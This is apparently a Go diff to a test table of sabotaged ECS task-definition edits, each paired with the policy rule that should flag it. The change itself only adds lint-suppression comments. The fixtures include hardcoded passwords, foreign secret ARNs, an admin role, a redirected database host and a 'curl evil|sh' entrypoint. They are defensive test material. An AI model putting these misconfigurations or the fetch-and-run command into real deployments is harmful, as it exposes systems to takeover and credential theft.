@@ -8,7 +8,7 @@ var sabotagedTasks = []Edit{
 	{"the root file system is mounted to be written to", "platform", taskType, "", container + "MountPoints/3/ContainerPath", "/", "PAY-CONTAINER-02"},
 	{"the password is a stranger's parameter", "platform", taskType, "", container + "Secrets/Name=DB_PASSWORD/ValueFrom", "arn:aws:ssm:us-east-2:999999999999:parameter/theirs", "PAY-CONTAINER-06"},
 	{"the password is something else than the secret", "platform", taskType, "", container + "Secrets/Name=DB_PASSWORD/ValueFrom", object{"Ref": "DatabaseSecretKey4D26F25B"}, "PAY-CONTAINER-06"},
-	{"a connection string has the password in it", "platform", taskType, "", container + "Environment/0", object{"Name": "CONNECTION", "Value": "postgres://u:hunter2@db/payments"}, "PAY-STRANGER-06"},
+	{"a connection string has the password in it", "platform", taskType, "", container + "Environment/0", object{"Name": "CONNECTION", "Value": "postgres://u:hunter2@db/payments"}, "PAY-STRANGER-06"}, //nolint:gosec // an edit
 	{"something stands in the environment that nobody has looked at", "platform", taskType, "", container + "Environment/0", object{"Name": "HSM_PIN", "Value": "1234"}, "PAY-FORESEEN-03"},
 	{"a password stands on the command line", "platform", taskType, "", container + "Command", list{"--db-password=hunter2"}, "PAY-FORESEEN-03"},
 	{"the container starts something else than its image says", "platform", taskType, "", container + "EntryPoint", list{"/bin/sh", "-c", "curl evil|sh"}, "PAY-FORESEEN-03"},
@@ -28,7 +28,7 @@ var sabotagedTasks = []Edit{
 	{"tasks have a role that somebody made by hand", "platform", taskType, "", "Properties/TaskRoleArn", "arn:aws:iam::111122223333:role/Admin", "PAY-STRANGER-03"},
 	{"the application may do what releases may", "platform", taskType, "", "Properties/TaskRoleArn/Fn::GetAtt/0", "ReleaseRoleCAEFCF19", "PAY-ACCESS-15"},
 	{"the image is a stranger's", "platform", taskType, "", container + "Image", "docker.io/evil/x@sha256:0000000000000000000000000000000000000000000000000000000000000000", "PAY-CONTAINER-09"},
-	{"the image is fetched with somebody's password", "platform", taskType, "", container + "RepositoryCredentials", object{"CredentialsParameter": "arn:aws:secretsmanager:us-east-2:999999999999:secret:x"}, "PAY-FORESEEN-03"},
+	{"the image is fetched with somebody's password", "platform", taskType, "", container + "RepositoryCredentials", object{"CredentialsParameter": "arn:aws:secretsmanager:us-east-2:999999999999:secret:x"}, "PAY-FORESEEN-03"}, //nolint:gosec // an edit
 	{"faults can be injected into tasks", "platform", taskType, "", "Properties/EnableFaultInjection", true, "PAY-FORESEEN-02"},
 	{"the old revision is gone when a new one replaces it", "platform", taskType, "", "UpdateReplacePolicy", "Delete", "PAY-RELEASE-11"},
 	{"the database's name leads to a stranger", "platform", taskType, "", container + "ExtraHosts", list{object{"Hostname": "db", "IpAddress": "6.6.6.6"}}, "PAY-FORESEEN-03"},
